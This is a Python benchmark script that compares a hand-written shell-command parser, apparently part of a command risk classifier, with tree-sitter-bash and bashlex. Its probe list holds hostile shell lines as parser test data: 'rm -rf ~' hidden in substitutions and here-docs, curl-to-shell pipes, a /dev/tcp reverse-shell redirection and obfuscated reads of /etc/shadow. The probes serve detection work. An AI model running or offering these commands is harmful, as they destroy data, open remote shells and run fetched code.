"""Shell readers compared: the hand-written `risk/shellwords.py` against the
maintained bash grammars tree-sitter-bash and bashlex (issue 13, item 8).

    python3 -m venv /tmp/parsers && /tmp/parsers/bin/pip install tree-sitter tree-sitter-bash bashlex
    /tmp/parsers/bin/python bench/shell_parsers.py [--failures] [--diff N] [--shellwords FILE] [CORPUS.jsonl ...]

Each reader gets a small adapter that brings its output to one form: the
simple commands of the line wherever they hide (substitutions, subshells,
bodies of functions and compound commands), each as argv words after quote
removal, a word that holds an expansion marked as such; the assignments and
redirections; here-document bodies and the command they feed. Hand-made
probe lines, one group per construct, are checked against that form, and
the corpora (JSONL, field `command`) give the error counts, how often the
readers agree with shellwords, and the costs: import in a fresh interpreter
(median of runs, milliseconds) and per line (median microseconds), for the
parse alone and for the parse plus the adapter's walk. Only reads files.
Missing candidates are reported and skipped.
"""

from __future__ import annotations

import argparse
import importlib
import importlib.metadata
import importlib.util
import json
import re
import statistics
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType
from typing import Any

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))


def load_shellwords(path: Path | None) -> ModuleType:
    """The tree's `vectraguard.risk.shellwords`, or another copy of it (`--shellwords FILE`,
    e.g. an older commit's, from `git show COMMIT:vectraguard/risk/shellwords.py`)."""
    if path is None:
        return importlib.import_module("vectraguard.risk.shellwords")
    spec = importlib.util.spec_from_file_location("shellwords_under_test", path)
    if spec is None or spec.loader is None:
        raise SystemExit(f"{path}: cannot be loaded as a Python module")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses looks its module up while the class is made
    spec.loader.exec_module(module)
    return module


shellwords: Any = None  # set by main() before any reading

HELDOUT_A = Path("/work/heldout-a/heldout-a.jsonl")  # where the first held-out set is written before it is added
IMPORT_RUNS = 9
TIMING_ROUNDS = 7


# -- the common form ------------------------------------------------------------------------

@dataclass(frozen=True)
class W:
    """A word: its text after quote removal when static, else None; `raw` as written."""

    text: str | None
    raw: str

    def show(self) -> str:
        return self.text if self.text is not None else "$"


@dataclass
class Reading:
    """What one reader made of a line."""

    cmds: list[list[W]] = field(default_factory=list)  # argv of every simple command found
    assigns: list[tuple[str, list[W]]] = field(default_factory=list)  # NAME=VALUE (arrays: several words)
    redirs: list[tuple[str, W | None]] = field(default_factory=list)  # (operator, target); fd dups: target None
    heredocs: list[tuple[str, str]] = field(default_factory=list)  # (command fed, body)
    error: bool = False  # the reader refused the line or marked part of it as not bash

    def names(self) -> tuple[tuple[str, ...], ...]:
        return tuple(sorted(tuple(w.show() for w in argv) for argv in self.cmds))


def _dq_unescape(text: str) -> str:
    """Backslash removal inside double quotes (and in a word after the shell's rules)."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in '$`"\\\n':
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
        else:
            out.append(text[i])
            i += 1
    return "".join(out)


def _unquoted_unescape(text: str) -> str:
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
        else:
            out.append(text[i])
            i += 1
    return "".join(out)


def _ansi_c(raw: str) -> str:
    """$'...' body decoded (the same decoding shellwords uses: the reader's job is to hand it over)."""
    try:
        return raw.encode("latin-1", "backslashreplace").decode("unicode_escape")
    except (UnicodeDecodeError, UnicodeEncodeError):
        return raw


# -- shellwords, as the classifier uses it today ---------------------------------------------

# classify.py drops these words before a command (the reader itself knows no keywords).
KEYWORDS = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac",
                      "in"})


def read_shellwords(line: str) -> Reading:
    reading = Reading()
    _sw_line(line, reading, 0)
    return reading


def _sw_line(text: str, reading: Reading, depth: int) -> None:
    if depth > 8:
        return
    for pipeline in shellwords.parse(text):
        for simple in pipeline.commands:
            _sw_simple(simple, reading, depth)


def _sw_simple(simple: Any, reading: Reading, depth: int) -> None:
    if simple.subshell:  # a group, or (newer versions, with `defines`) a function's body
        _sw_line(simple.subshell, reading, depth + 1)
    heredocs = []
    for redirect in simple.redirects:
        if redirect.target is None:  # <(...) >(...)
            _sw_line(redirect.inner, reading, depth + 1)
        elif redirect.op in (">&", "<&") and redirect.target.literal() == "&fd":
            reading.redirs.append((redirect.op, None))
        else:
            reading.redirs.append((redirect.op, _sw_word(redirect.target, reading, depth)))
        body = getattr(redirect, "body", None)  # here-document bodies: newer versions only
        if body is not None:
            heredocs.append(_sw_word(body, reading, depth).raw)
    words = list(simple.words)
    while words:  # the keyword and function-header stripping classify.py does
        first = words[0].literal()
        if first in KEYWORDS:
            words.pop(0)
        elif len(words) > 1 and (first == "function" or (words[1].literal() == "{" and (first or "").isidentifier())):
            words = words[2:]
        else:
            break
    while words and _sw_assignment(words[0]):  # leading NAME=VALUE words, as classify.py finds them
        first, rest = words[0].parts[0], words[0].parts[1:]
        name, _, value = first.value.partition("=")
        word = _sw_word(type(words.pop(0))([type(first)("text", value, first.quoted), *rest]), reading, depth)
        reading.assigns.append((name, [word]))
    argv = [_sw_word(w, reading, depth) for w in words]
    if argv:
        reading.cmds.append(argv)
    reading.heredocs += [(argv[0].show() if argv else "", body) for body in heredocs]


def _sw_word(word: Any, reading: Reading, depth: int) -> W:
    raw = ""
    for part in word.parts:
        if part.kind == "subst":
            _sw_line(part.value, reading, depth + 1)
            raw += "$(" + part.value + ")"
        elif part.kind == "var":
            raw += "${" + part.value + "}"
        else:
            raw += part.value
    return W(word.literal(), raw)


def _sw_assignment(word: Any) -> bool:
    first = word.parts[0] if word.parts else None
    return first is not None and first.kind == "text" and not first.quoted and \
        re.match(r"[A-Za-z_][A-Za-z0-9_]*=", first.value) is not None


# -- tree-sitter-bash --------------------------------------------------------------------------

class TreeSitter:
    """tree-sitter + tree-sitter-bash: a GLR grammar; never refuses, marks ERROR/MISSING nodes."""

    def __init__(self) -> None:
        import tree_sitter
        import tree_sitter_bash

        self.parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))

    def parse(self, line: str) -> Any:
        return self.parser.parse(line.encode("utf-8", "surrogateescape"))

    def read(self, line: str) -> Reading:
        tree = self.parse(line)
        reading = Reading(error=tree.root_node.has_error)
        self._walk(tree.root_node, reading)
        return reading

    def _walk(self, node: Any, reading: Reading) -> None:
        kind = node.type
        if kind == "command":
            self._command(node, reading)
        elif kind in ("declaration_command", "unset_command"):  # export/declare/local/readonly/typeset, unset
            self._declaration(node, reading)
        elif kind == "variable_assignment":
            self._assignment(node, reading)
        elif kind in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
            self._redirect(node, None, reading)
        elif kind == "redirected_statement":
            body = node.child_by_field_name("body")
            fed = None
            if body is not None and body.type == "command":
                argv = self._command(body, reading)
                fed = argv[0].show() if argv else None
            elif body is not None:
                self._walk(body, reading)
            for child in node.children:
                if child is not body:
                    self._redirect(child, fed, reading)
        elif kind != "comment":
            for child in node.children:
                self._walk(child, reading)

    def _command(self, node: Any, reading: Reading) -> list[W]:
        argv: list[W] = []
        index = len(reading.cmds)
        reading.cmds.append(argv)  # the outer command first, then those found inside its words
        for child in node.children:
            if child.type == "variable_assignment":
                self._assignment(child, reading)
            elif child.type.endswith("_redirect"):
                self._redirect(child, None, reading)
            elif child.type == "command_name":
                argv.append(self._word(child.children[0], reading))
            elif child.is_named and child.type != "comment":
                argv.append(self._word(child, reading))
        if not argv:
            reading.cmds.pop(index)
        return argv

    def _declaration(self, node: Any, reading: Reading) -> None:
        argv: list[W] = []
        reading.cmds.append(argv)
        for child in node.children:
            if not child.is_named:  # the keyword
                argv.append(W(child.type, child.type))
            elif child.type == "variable_assignment":
                values = self._assignment(child, reading)
                name = child.child_by_field_name("name")
                texts = [v.text for v in values]
                text = None if None in texts or len(values) != 1 else f"{name.text.decode()}={texts[0]}"
                argv.append(W(text, child.text.decode("utf-8", "surrogateescape")))
            elif child.type == "variable_name":
                argv.append(W(child.text.decode(), child.text.decode()))
            elif child.type.endswith("_redirect"):
                self._redirect(child, None, reading)
            elif child.type != "comment":
                argv.append(self._word(child, reading))

    def _assignment(self, node: Any, reading: Reading) -> list[W]:
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        if value is None:
            values: list[W] = [W("", "")]
        elif value.type == "array":
            values = [self._word(c, reading) for c in value.children if c.is_named]
        else:
            values = [self._word(value, reading)]
        reading.assigns.append((name.text.decode() if name is not None else "", values))
        return values

    def _redirect(self, node: Any, fed: str | None, reading: Reading) -> None:
        if node.type == "heredoc_redirect":
            body = next((c for c in node.children if c.type == "heredoc_body"), None)
            reading.heredocs.append((fed or "", body.text.decode() if body is not None else ""))
            for child in node.children:  # the body's expansions (unquoted delimiter), and
                if child.is_named and child.type not in ("heredoc_start", "heredoc_end"):  # what follows `<<EOF`
                    self._walk(child, reading)
            return
        if not node.type.endswith("_redirect"):
            return
        op = next((c.type for c in node.children if not c.is_named), "")
        target = node.child_by_field_name("destination") or next(
            (c for c in node.children if c.is_named and c.type != "file_descriptor"), None)
        if op in (">&", "<&") and target is not None and target.type == "number":
            reading.redirs.append((op, None))
        else:
            reading.redirs.append((op, self._word(target, reading) if target is not None else None))

    def _word(self, node: Any, reading: Reading) -> W:
        raw = node.text.decode("utf-8", "surrogateescape")
        kind = node.type
        if kind in ("word", "number"):
            return W(_unquoted_unescape(raw), raw)
        if kind == "raw_string":
            return W(raw[1:-1], raw)
        if kind == "ansi_c_string":
            return W(_ansi_c(raw[2:-1]), raw)
        if kind in ("string", "translated_string"):
            return self._string(node, raw, reading)
        if kind == "concatenation":
            parts = [self._word(c, reading) for c in node.children]
            texts = [p.text for p in parts]
            return W("".join(t for t in texts if t is not None) if None not in texts else None, raw)
        # expansions, substitutions, arithmetic, anything unknown: dynamic; its commands still count
        self._walk(node, reading)
        return W(None, raw)

    def _string(self, node: Any, raw: str, reading: Reading) -> W:
        text: str | None = ""
        pos = node.start_byte + 1
        source = node.text
        base = node.start_byte
        for child in node.children:
            if not child.is_named:
                continue
            gap = source[pos - base:child.start_byte - base].decode("utf-8", "surrogateescape")
            if text is not None:
                text += _dq_unescape(gap)
            if child.type == "string_content":
                if text is not None:
                    text += _dq_unescape(child.text.decode("utf-8", "surrogateescape"))
            else:
                self._walk(child, reading)
                text = None
            pos = child.end_byte
        if text is not None:
            text += _dq_unescape(source[pos - base:len(source) - 1].decode("utf-8", "surrogateescape"))
        return W(text, raw)


# -- bashlex -------------------------------------------------------------------------------------

class Bashlex:
    """bashlex: a port of bash's own yacc grammar; raises on what it does not implement."""

    def __init__(self) -> None:
        import bashlex

        self.bashlex = bashlex

    def parse(self, line: str) -> Any:
        try:
            return self.bashlex.parse(line)
        except Exception:  # noqa: BLE001 -- ParsingError, NotImplementedError, and its internal errors
            return None

    def read(self, line: str) -> Reading:
        trees = self.parse(line)
        if trees is None:
            return Reading(error=True)
        reading = Reading()
        for tree in trees:
            self._walk(tree, reading)
        return reading

    def _walk(self, node: Any, reading: Reading) -> None:
        kind = node.kind
        if kind == "command":
            self._command(node, reading)
            return
        if kind == "redirect":
            self._redirect(node, "", reading)
            return
        for name in ("parts", "list", "redirects"):
            for child in getattr(node, name, None) or []:
                self._walk(child, reading)
        if kind in ("commandsubstitution", "processsubstitution"):
            self._walk(node.command, reading)

    def _command(self, node: Any, reading: Reading) -> None:
        argv: list[W] = []
        index = len(reading.cmds)
        reading.cmds.append(argv)
        for part in node.parts:
            if part.kind == "assignment":
                name, _, value = part.word.partition("=")
                reading.assigns.append((name, [self._word(part, reading, value)]))
            elif part.kind == "redirect":
                self._redirect(part, argv[0].show() if argv else "", reading)
            elif part.kind == "word":
                argv.append(self._word(part, reading, part.word))
        if not argv:
            reading.cmds.pop(index)

    def _word(self, node: Any, reading: Reading, text: str) -> W:
        dynamic = False
        for part in getattr(node, "parts", None) or []:
            if part.kind in ("parameter", "commandsubstitution", "processsubstitution"):
                dynamic = True
            self._walk(part, reading)
        return W(None if dynamic else text, node.word)

    def _redirect(self, node: Any, fed: str, reading: Reading) -> None:
        target = node.output
        if isinstance(target, int):  # 2>&1
            reading.redirs.append((node.type, None))
        else:
            reading.redirs.append((node.type, self._word(target, reading, target.word)))
        heredoc = getattr(node, "heredoc", None)
        if heredoc is not None:  # its value ends with the delimiter line
            body = heredoc.value.rsplit("\n", 1)[0] + "\n" if "\n" in heredoc.value else ""
            reading.heredocs.append((fed, body))


# -- probes ------------------------------------------------------------------------------------

Check = Callable[[Reading], bool]
DYN = object()  # matches a word marked as holding an expansion


def cmd(*argv: object) -> Check:
    """A simple command with exactly these words (DYN: a word marked as an expansion)."""
    def check(reading: Reading) -> bool:
        return any(len(c) == len(argv) and all(
            (w.text is None) if a is DYN else (w.text == a) for w, a in zip(c, argv)) for c in reading.cmds)
    check.__doc__ = "cmd " + " ".join("$" if a is DYN else str(a) for a in argv)
    return check


def either(*checks: Check) -> Check:
    def check(reading: Reading) -> bool:
        return any(c(reading) for c in checks)
    return check


def no_cmd(name: str) -> Check:
    """No command named `name` anywhere (it is data, a comment, or escaped)."""
    return lambda r: not any(c and c[0].text == name for c in r.cmds)


def heredoc(fed: str, body: str) -> Check:
    return lambda r: any(f == fed and body in b for f, b in r.heredocs)


def redir(op: str, target: str | None) -> Check:
    """A redirection `op` to the file `target` (None: a descriptor duplication, no file)."""
    return lambda r: any(o == op and (t is None if target is None else (t is not None and t.text == target))
                         for o, t in r.redirs)


def assign(name: str, *values: str) -> Check:
    return lambda r: any(n == name and [w.text for w in v] == list(values) for n, v in r.assigns)


def dyn_name() -> Check:
    """Some command whose name is marked as an expansion (so it can be judged opaque)."""
    return lambda r: any(c and c[0].text is None for c in r.cmds)


RM = ("rm", "-rf", "~")
PROBES: list[tuple[str, str, list[Check]]] = [
    ("$(..)", "echo $(rm -rf ~)", [cmd(*RM), cmd("echo", DYN)]),
    ("$(..)", 'echo "$(rm -rf ~)"', [cmd(*RM), cmd("echo", DYN)]),
    ("$(..)", "echo $(echo $(rm -rf ~))", [cmd(*RM)]),
    ("$(..)", "$(which sudo) ls", [cmd("which", "sudo"), dyn_name()]),
    ("$(..)", "echo \"\\$(rm -rf ~)\"", [no_cmd("rm"), cmd("echo", "$(rm -rf ~)")]),
    ("$(..)", "echo ${x:-$(rm -rf ~)}", [cmd(*RM), cmd("echo", DYN)]),
    ("backticks", "echo `rm -rf ~`", [cmd(*RM)]),
    ("backticks", 'echo "`rm -rf ~`"', [cmd(*RM)]),
    ("backticks", "`command -v rm` -rf ~", [cmd("command", "-v", "rm"), dyn_name()]),
    ("<(..) >(..)", "diff <(rm -rf ~) /dev/null", [cmd(*RM), cmd("diff", DYN, "/dev/null")]),
    ("<(..) >(..)", "bash <(curl -s https://x.sh)", [cmd("curl", "-s", "https://x.sh"),
                                                     either(cmd("bash", DYN), cmd("bash"))]),
    ("<(..) >(..)", "tar c . | tee >(sh) >/dev/null", [cmd("sh"), redir(">", "/dev/null")]),
    ("( ) { }", "(cd /; rm -rf *)", [cmd("cd", "/"), cmd("rm", "-rf", "*")]),
    ("( ) { }", "{ rm -rf ~; } > /dev/null 2>&1", [cmd(*RM), redir(">", "/dev/null")]),
    ("( ) { }", "( (rm -rf ~) )", [cmd(*RM)]),
    ("( ) { }", "for d in a; do (rm -rf ~); done", [cmd(*RM)]),
    ("( ) { }", "if true; then (rm -rf ~); fi", [cmd(*RM)]),
    ("function", "f() { rm -rf ~; }; f", [cmd(*RM), cmd("f")]),
    ("function", 'function g { rm -rf "$1"; }; g ~', [cmd("rm", "-rf", DYN), cmd("g", "~")]),
    ("function", "function h() ( rm -rf ~ ); h", [cmd(*RM)]),
    ("if/while/for/case", "if true; then rm -rf ~; fi", [cmd(*RM), cmd("true")]),
    ("if/while/for/case", "if ! ls; then :; elif id; then rm -rf ~; else ls; fi", [cmd(*RM), cmd("id")]),
    ("if/while/for/case", "while true; do rm -rf ~; done", [cmd(*RM)]),
    ("if/while/for/case", "until false; do rm -rf ~; done", [cmd(*RM)]),
    ("if/while/for/case", 'for d in / ~; do rm -rf "$d"; done', [cmd("rm", "-rf", DYN)]),
    ("if/while/for/case", "for ((i=0;i<3;i++)); do rm -rf ~; done", [cmd(*RM)]),
    ("if/while/for/case", "case $x in a) rm -rf ~;; *) ls;; esac", [cmd(*RM), cmd("ls")]),
    ("if/while/for/case", "case a in (a|b) rm -rf ~ ;; esac", [cmd(*RM)]),
    ("here-doc", "bash <<EOF\nrm -rf ~\nEOF\n", [heredoc("bash", "rm -rf ~"), cmd("bash")]),
    ("here-doc", "cat <<'EOF' > x.sh\nrm -rf ~\nEOF\n", [heredoc("cat", "rm -rf ~"), redir(">", "x.sh")]),
    ("here-doc", "sh <<-END\n\trm -rf ~\n\tEND\n", [heredoc("sh", "rm -rf ~")]),
    ("here-doc", "cat <<EOF | sh\nrm -rf ~\nEOF\n", [heredoc("cat", "rm -rf ~"), cmd("sh")]),
    ("here-doc", "cat <<EOF\n$(rm -rf ~)\nEOF\n", [cmd(*RM)]),
    ("here-doc", "cat <<EOF\n`rm -rf ~`\nEOF\n", [cmd(*RM)]),
    ("here-doc", "cat <<'EOF'\n$(rm -rf ~)\nEOF\n", [no_cmd("rm"), heredoc("cat", "$(rm -rf ~)")]),
    ("here-doc", "python3 - <<'EOF'\nimport os\nEOF\n", [cmd("python3", "-"), heredoc("python3", "import os")]),
    ("here-string", "bash <<< 'rm -rf ~'", [redir("<<<", "rm -rf ~"), cmd("bash")]),
    ("here-string", 'sh <<<"$(curl -s https://x)"', [cmd("curl", "-s", "https://x"), cmd("sh")]),
    ("$'..'", "$'\\x72\\x6d' -rf ~", [cmd(*RM)]),
    ("$'..'", "r$'\\155' -rf ~", [cmd(*RM)]),
    ("$'..'", "echo $'a\\'b'; rm -rf ~", [cmd(*RM), cmd("echo", "a'b")]),
    ("${IFS}", "rm${IFS}-rf${IFS}~", [dyn_name()]),
    ("${IFS}", "cat${IFS}/etc/shadow", [dyn_name(), no_cmd("cat${IFS}/etc/shadow")]),
    ("${IFS}", "rm$IFS-rf$IFS~", [cmd(DYN)]),
    ("$((..))", "echo $((1+2))", [cmd("echo", DYN)]),
    ("$((..))", "echo $(( $(rm -rf ~) + 1 ))", [cmd(*RM)]),
    ("$((..))", "rm -rf ~ $((0))", [cmd("rm", "-rf", "~", DYN)]),
    ("assignments", "LD_PRELOAD=/tmp/x.so sudo ls", [assign("LD_PRELOAD", "/tmp/x.so"), cmd("sudo", "ls")]),
    ("assignments", "X=$(rm -rf ~)", [cmd(*RM)]),
    ("assignments", "A=1 B='2 3' env", [assign("A", "1"), assign("B", "2 3"), cmd("env")]),
    ("assignments", "export A=$(rm -rf ~)", [cmd(*RM)]),
    ("redirections", "ls > /etc/passwd 2>&1", [cmd("ls"), redir(">", "/etc/passwd"), redir(">&", None)]),
    ("redirections", "echo x &> /dev/sda", [cmd("echo", "x"), redir("&>", "/dev/sda")]),
    ("redirections", "echo x >| /etc/hosts", [cmd("echo", "x"), redir(">|", "/etc/hosts")]),
    ("redirections", "echo x >>~/.bashrc", [cmd("echo", "x"), redir(">>", "~/.bashrc")]),
    ("redirections", "2>/dev/null rm -rf ~", [cmd(*RM), redir(">", "/dev/null")]),
    ("redirections", "sh 0</tmp/fifo", [cmd("sh"), redir("<", "/tmp/fifo")]),
    ("redirections", "exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3 >&3", [cmd("exec"), cmd("sh"),
                                                                       redir("<>", "/dev/tcp/203.0.113.7/4444")]),
    ("continuation", "rm \\\n -rf ~", [cmd(*RM)]),
    ("continuation", "r\\\nm -rf ~", [cmd(*RM)]),
    ("comments", "ls # ; rm -rf ~", [cmd("ls"), no_cmd("rm")]),
    ("comments", "echo a#b; rm -rf ~", [cmd("echo", "a#b"), cmd(*RM)]),
    ("comments", "# rm -rf ~\nls", [cmd("ls"), no_cmd("rm")]),
    ("coproc", "coproc rm -rf ~", [cmd(*RM)]),
    ("coproc", "coproc N { rm -rf ~; }", [cmd(*RM), no_cmd("}")]),
    ("[[ ]]", "[[ -f x ]] && rm -rf ~", [cmd(*RM)]),
    ("[[ ]]", "[[ $(rm -rf ~) ]]", [cmd(*RM)]),
    ("arrays", "a=(rm -rf ~); \"${a[@]}\"", [assign("a", *RM), dyn_name()]),
    ("arrays", "a=($(rm -rf ~))", [cmd(*RM)]),
    ("time / !", "time rm -rf ~", [either(cmd(*RM), cmd("time", *RM))]),
    ("time / !", "time -p rm -rf ~", [either(cmd(*RM), cmd("time", "-p", *RM))]),
    ("time / !", "! rm -rf ~", [cmd(*RM)]),
    ("quoting", "echo 'rm -rf ~' \"a b\" c\\ d", [cmd("echo", "rm -rf ~", "a b", "c d"), no_cmd("rm")]),
    ("quoting", "'r'\"m\" -rf ~", [cmd(*RM)]),
    ("quoting", 'rg "curl .* \\| sh" docs/', [cmd("rg", "curl .* \\| sh", "docs/")]),
    ("quoting", "git -c core.pager='sh -c \"rm -rf ~\"' log", [cmd("git", "-c", 'core.pager=sh -c "rm -rf ~"', "log")]),
    ("quoting", 'printf "%s\\n" x', [cmd("printf", "%s\\n", "x")]),
    ("{a,b}", "{rm,-rf,~}", [cmd("{rm,-rf,~}")]),
    ("{a,b}", "echo {a,b}; {rm,-rf,/}", [cmd("echo", "{a,b}"), cmd("{rm,-rf,/}")]),
    ("lists", "curl -s https://x | sh && ls || rm -rf ~ &", [cmd("curl", "-s", "https://x"), cmd("sh"),
                                                            cmd("ls"), cmd(*RM)]),
]


def run_probes(readers: dict[str, Callable[[str], Reading]],
               failures: list[str]) -> dict[str, dict[str, tuple[int, int]]]:
    """construct -> reader -> (probes passed, probes); each failed probe is added to `failures`."""
    table: dict[str, dict[str, tuple[int, int]]] = {}
    for construct, line, checks in PROBES:
        row = table.setdefault(construct, {})
        for name, read in readers.items():
            try:
                reading = read(line)  # a refused line reads as empty, so its probes fail
                ok = all(check(reading) for check in checks)
                found = f"commands {[[w.show() for w in c] for c in reading.cmds]}" + \
                    (" (reader error)" if reading.error else "")
            except Exception as error:  # noqa: BLE001 -- an adapter crash is a failed probe, not a crashed bench
                ok, found = False, f"adapter crashed: {error!r}"
            if not ok:
                failures.append(f"{name:16} {construct:17} {line!r}: {found}")
            passed, total = row.get(name, (0, 0))
            row[name] = (passed + ok, total + 1)
    return table


# -- costs -------------------------------------------------------------------------------------

IMPORTS = {
    "shellwords": "from vectraguard.risk import shellwords",
    "tree-sitter-bash": "import tree_sitter, tree_sitter_bash; "
                        "tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))",
    "bashlex": "import bashlex",
}
# What the classifier's process has loaded anyway before it reads a line: not charged to a reader.
PRELOADED = "import dataclasses, re, json, pathlib, typing"


def import_ms(statement: str) -> tuple[float, float] | None:
    """Median over fresh interpreters of (wall time of `python -c` with `statement`, the time of
    `statement` alone after PRELOADED), in ms; None if the statement fails."""
    code = (f"import sys, time; sys.path.insert(0, {str(REPO)!r}); {PRELOADED}\n"
            f"started = time.perf_counter()\n{statement or 'pass'}\nprint(time.perf_counter() - started)")
    walls, alone = [], []
    for _ in range(IMPORT_RUNS):
        started = time.perf_counter()
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
        walls.append((time.perf_counter() - started) * 1e3)
        if done.returncode != 0:
            return None
        alone.append(float(done.stdout) * 1e3)
    return statistics.median(walls), statistics.median(alone)


def line_costs(lines: list[str], work: Callable[[str], object]) -> tuple[float, float]:
    """(median, 95th percentile) over lines of each line's best of TIMING_ROUNDS passes over
    all lines, in us. Passes, not repeats of one line: a burst of other processes' work then
    spoils one pass's figure for a line, not all of them."""
    best = [float("inf")] * len(lines)
    for _ in range(TIMING_ROUNDS):
        for i, line in enumerate(lines):
            started = time.perf_counter_ns()
            work(line)
            best[i] = min(best[i], time.perf_counter_ns() - started)
    return statistics.median(best) / 1e3, statistics.quantiles(best, n=20)[-1] / 1e3


# -- report ------------------------------------------------------------------------------------

def load(path: Path) -> list[tuple[str, str]]:
    """(command, label) of each JSONL row; label "" when the row has none."""
    rows = [json.loads(row) for row in path.read_text().splitlines() if row.strip()]
    return [(row["command"], str(row.get("label", ""))) for row in rows]


def default_corpora() -> list[Path]:
    """The labelled corpora in tests/data, and the first held-out set while it is still outside."""
    shipped = sorted((REPO / "tests" / "data").glob("*.jsonl"))
    outside = [HELDOUT_A] if HELDOUT_A.exists() and HELDOUT_A.name not in {p.name for p in shipped} else []
    return shipped + outside


def print_probes(readers: dict[str, Callable[[str], Reading]], show_failures: bool) -> None:
    print("\n## Probes: constructs x readers (probe lines passed / probes)\n")
    failures: list[str] = []
    table = run_probes(readers, failures)
    names = list(readers)
    print("| construct | " + " | ".join(names) + " |")
    print("|---|" + "---|" * len(names))
    totals = {n: [0, 0] for n in names}
    for construct, row in table.items():
        for n in names:
            totals[n][0] += row[n][0]
            totals[n][1] += row[n][1]
        print(f"| {construct} | " + " | ".join(f"{row[n][0]}/{row[n][1]}" for n in names) + " |")
    print("| **all** | " + " | ".join(f"**{p}/{t}**" for p, t in totals.values()) + " |")
    if show_failures:
        print("\nFailed probes:\n" + "\n".join("  " + f for f in failures))


def print_corpus(path: Path, readers: dict[str, Callable[[str], Reading]],
                 parse_only: dict[str, Callable[[str], object]], diff: int) -> None:
    rows = load(path)
    lines = [command for command, _ in rows]
    if len(lines) < 2:
        print(f"| {path.name} | {len(lines)} | (too few lines to measure) | | | | | |")
        return
    benign = {command for command, label in rows if label == "benign"}
    base = {line: readers["shellwords"](line).names() for line in lines}
    for n, read in readers.items():
        readings = {line: read(line) for line in lines}
        errors = [line for line in lines if readings[line].error]
        same = sum(readings[line].names() == base[line] for line in lines)
        parse, _ = line_costs(lines, parse_only[n])
        walk, p95 = line_costs(lines, read)
        errors_cell = "never refuses" if n == "shellwords" else \
            f"{len(errors)} ({sum(line in benign for line in errors)} benign)"
        print(f"| {path.name} | {len(lines)} | {n} | {errors_cell} | {same} | {parse:.1f} | {walk:.1f} | "
              f"{p95:.1f} |")
        if n == "shellwords":
            continue
        differing = [line for line in lines if readings[line].names() != base[line]]
        for line in differing[:diff]:
            print(f"    DIFF {n}: {line!r}\n      shellwords: {base[line]}\n"
                  f"      {n}: {readings[line].names()}{' (error)' if readings[line].error else ''}")


def print_startup() -> None:
    print(f"\n## Start-up, median of {IMPORT_RUNS} fresh interpreters (ms)\n")
    print(f"| import | wall of `python -c` ({PRELOADED}; import) | the import alone |")
    print("|---|---|---|")
    for label, statement in {"(nothing)": "", **IMPORTS}.items():
        measured = import_ms(statement)
        shown = "failed | failed" if measured is None else f"{measured[0]:.1f} | {measured[1]:.1f}"
        print(f"| {label} | {shown} |")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("corpora", nargs="*", type=Path)
    parser.add_argument("--diff", type=int, default=0, metavar="N",
                        help="print N corpus lines where each grammar's commands differ from shellwords'")
    parser.add_argument("--failures", action="store_true", help="print each failed probe and what was read")
    parser.add_argument("--shellwords", type=Path, metavar="FILE",
                        help="compare this copy of shellwords.py instead of the tree's")
    args = parser.parse_args()
    corpora = args.corpora or default_corpora()
    global shellwords
    shellwords = load_shellwords(args.shellwords)

    readers: dict[str, Callable[[str], Reading]] = {"shellwords": read_shellwords}
    parse_only: dict[str, Callable[[str], object]] = {"shellwords": shellwords.parse}
    for name, cls in (("tree-sitter-bash", TreeSitter), ("bashlex", Bashlex)):
        try:
            reader = cls()
        except ImportError as error:
            print(f"{name}: not installed ({error}); skipped")
            continue
        readers[name] = reader.read
        parse_only[name] = reader.parse

    print(f"python {sys.version.split()[0]} ({sys.executable}); shellwords from {shellwords.__file__}")
    for module in ("tree_sitter", "tree_sitter_bash", "bashlex"):
        try:
            print(f"  {module} {importlib.metadata.version(module.replace('_', '-'))}")
        except importlib.metadata.PackageNotFoundError:
            print(f"  {module}: not installed")
    print_probes(readers, args.failures)
    print("\n## Corpora\n")
    print("| corpus | lines | reader | errors | same commands as shellwords | parse median us | "
          "parse+walk median us | parse+walk p95 us |")
    print("|---|---|---|---|---|---|---|---|")
    for path in corpora:
        print_corpus(path, readers, parse_only, args.diff)
    print_startup()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
